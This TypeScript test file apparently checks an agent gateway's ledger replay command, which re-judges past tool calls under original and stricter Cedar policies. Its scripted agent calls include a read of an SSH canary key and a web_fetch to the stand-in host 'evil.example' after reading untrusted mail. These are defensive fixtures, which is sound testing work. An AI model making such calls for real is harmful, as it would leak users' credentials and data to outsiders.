/**
 * `replay --since`: what a running gateway decided, made again from its ledger,
 * by its own policies and by stricter ones, while it goes on running.
 *
 * @module
 */
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { after, before, test } from "node:test";
import { environmentOf } from "../src/app/config/environment.ts";
import type { Flags } from "../src/cli/command.ts";
import { replayCommand } from "../src/cli/replay.ts";
import { recordsOf } from "./campaign.ts";
import { answering, callerOf, type Kit, say, startKit } from "./gateway-kit.ts";
import { missing } from "./sandbox-kit.ts";

const skip = missing();
let kit: Kit;

before(async () => {
  if (skip !== false) return;
  kit = await startKit((place) => {
    mkdirSync(join(place.workspace, "inbox"));
    writeFileSync(join(place.workspace, "inbox", "mail.txt"), "a stranger's words\n");
    writeFileSync(join(place.workspace, "plain.md"), "the owner's words\n");
    return {
      folders: [
        { path: place.workspace, trust: "full", confidentiality: "internal" },
        { path: join(place.workspace, "inbox"), trust: "none", confidentiality: "private" },
      ],
      people: { ben: { trust: "standard", roles: ["developer"] } },
    };
  });
  const remember = { calls: [{ tool: "remember", arguments: { text: "kept" } }] };
  kit.plays.set("own", [
    { calls: [{ tool: "read", arguments: { path: "plain.md" } }] },
    remember,
    { calls: [{ tool: "write", arguments: { path: "plain.md", content: "changed" } }] },
    { calls: [{ tool: "read", arguments: { path: join(place().home, ".ssh/id_canary") } }] },
    { calls: [{ tool: "no_such_tool", arguments: {} }] },
  ]);
  kit.plays.set("strange", [
    { calls: [{ tool: "read", arguments: { path: "inbox/mail.txt" } }] },
    remember,
    { calls: [{ tool: "web_fetch", arguments: { url: "https://evil.example/?q=x" } }] },
  ]);
  const over = new AbortController();
  answering(kit, "no", over.signal);
  const ben = callerOf({ person: "ben", trust: "standard", roles: ["developer"], channel: "webchat" });
  await say(kit, "play own");
  await say(kit, "play strange");
  await say(kit, "play strange", ben);
  over.abort();
});

after(async () => {
  await kit?.close();
});

const place = (): Kit["place"] => kit.place;

type Line = {
  readonly id: string;
  readonly tool: string;
  readonly verdict: string;
  readonly because: readonly string[];
  readonly was: { readonly verdict: string; readonly because: readonly string[] };
  readonly notReplayed?: string;
};

async function replay(flags: Flags): Promise<{ status: number; lines: readonly Line[]; err: string }> {
  const lines: Line[] = [];
  const said: string[] = [];
  const status = await replayCommand.run([], flags, {
    out: (line) => lines.push(JSON.parse(line)),
    err: (line) => said.push(line),
    write: () => undefined,
    stdin: Readable.from([]),
    isTerminal: false,
    env: environmentOf(place().env),
    signal: new AbortController().signal,
  });
  return { status, lines, err: said.join("\n") };
}

const policies = (name: string, text: string): string => {
  const folder = join(place().root, name);
  mkdirSync(folder);
  writeFileSync(join(folder, "mine.cedar"), text);
  return folder;
};

test("R-WHO-5: every decision of a running gateway comes out of its ledger as it was: allowed, asked and denied", {
  skip,
}, async () => {
  const decided = (await recordsOf(place().state)).filter((one) => one.what === "call.decided");
  assert.deepEqual([...new Set(decided.map((one) => one.result))].sort(), ["asked", "denied", "ok"]);
  const { status, lines, err } = await replay({ since: "1h" });
  assert.equal(status, 0);
  assert.deepEqual(
    lines.map((one) => one.id),
    decided.map((one) => one.call).reverse(),
  );
  for (const { tool, verdict, because, was } of lines) assert.deepEqual({ verdict, because }, pick(was), tool);
  assert.match(err, new RegExp(`^${decided.length} calls: .* 0 answered otherwise than then; .*\\(\\+0\\)$`));
  const none = await replay({ since: "1h", against: true });
  assert.deepEqual([none.status, none.lines], [0, []]);
  assert.equal((await say(kit, "play nothing")).outcome.stop, "done", "the gateway goes on");
});

const pick = ({ verdict, because }: Line["was"]): object => ({ verdict, because });

test("R-WHO-5: under a stricter policy exactly the calls that it is about come out otherwise, with both answers", {
  skip,
}, async () => {
  const forbids = policies(
    "stricter",
    '@id("mine.remember") @says("Nothing is kept.") forbid (principal, action == Action::"remember", resource);\n',
  );
  const asks = policies(
    "asking",
    '@id("mine.read") @says("Reading is asked.") forbid (principal, action == Action::"read", resource) unless { context.approvals.contains("yes") };\n',
  );
  const all = await replay({ since: "1h" });
  const now = (tool: string, verdict?: string): readonly string[] =>
    all.lines.filter((one) => one.tool === tool && (verdict ?? one.verdict) === one.verdict).map((one) => one.id);
  const denied = await replay({ since: "1h", policy: forbids, against: true });
  assert.ok(now("remember").length >= 3);
  assert.deepEqual(
    denied.lines.map((one) => one.id),
    now("remember"),
  );
  for (const { verdict, because, was } of denied.lines) {
    assert.equal(verdict, "deny");
    assert.ok(because.includes("mine.remember") && !was.because.includes("mine.remember"));
  }
  const asked = await replay({ since: "1h", policy: asks, against: true });
  const turned = asked.lines.filter(({ verdict, was }) => verdict === "ask" && was.verdict === "allow");
  assert.deepEqual(
    turned.map((one) => one.id),
    now("read", "allow"),
  );
  assert.match(asked.err, new RegExp(`\\(\\+${turned.length}\\)$`));
});

test("R-WHO-5: a decision that is not recorded whole is counted and said; with nothing to replay it fails", {
  skip,
}, async () => {
  kit.plays.set("long", [
    {
      calls: [
        {
          tool: "exec",
          arguments: {
            command: `cat ${Array.from({ length: 90 }, (_, i) => `inbox/a-file-of-a-rather-long-name-${"x".repeat(80)}${i}`).join(" ")}`,
          },
        },
      ],
    },
  ]);
  const over = new AbortController();
  answering(kit, "no", over.signal);
  const from = new Date().toISOString();
  await say(kit, "play long");
  over.abort();
  const long = await replay({ since: from });
  assert.deepEqual(
    long.lines.map((one) => [one.tool, one.verdict, one.notReplayed]),
    [["exec", undefined, "what was asked is not kept: too long to be kept"]],
  );
  assert.equal(long.status, 1);
  assert.match(long.err, /^0 calls: .*\n1 not replayed: what was asked is not kept/);
  await assert.rejects(replay({ since: "yesterday-ish" }), { code: "COMMAND_USAGE" });
});
